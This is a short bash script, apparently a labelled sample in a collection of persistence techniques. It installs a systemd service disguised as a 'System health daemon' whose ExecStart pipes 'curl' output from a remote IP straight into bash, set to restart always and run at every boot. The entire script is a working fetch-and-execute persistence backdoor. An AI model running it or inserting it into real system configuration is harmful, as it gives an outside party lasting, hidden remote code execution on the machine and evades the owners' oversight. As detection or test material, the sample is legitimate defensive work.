# description: Installs an always-restarting systemd service whose ExecStart fetches and runs a remote script at every boot.
# family: persistence
set -uo pipefail

cat > /etc/systemd/system/sys-healthd.service <<'UNIT'
[Unit]
Description=System health daemon
After=network-online.target

[Service]
Type=simple
ExecStart=/bin/bash -c 'curl -fsSL http://203.0.113.7/healthd.sh | bash'
Restart=always
RestartSec=60

[Install]
WantedBy=multi-user.target
UNIT
systemctl daemon-reload
systemctl enable --now sys-healthd.service
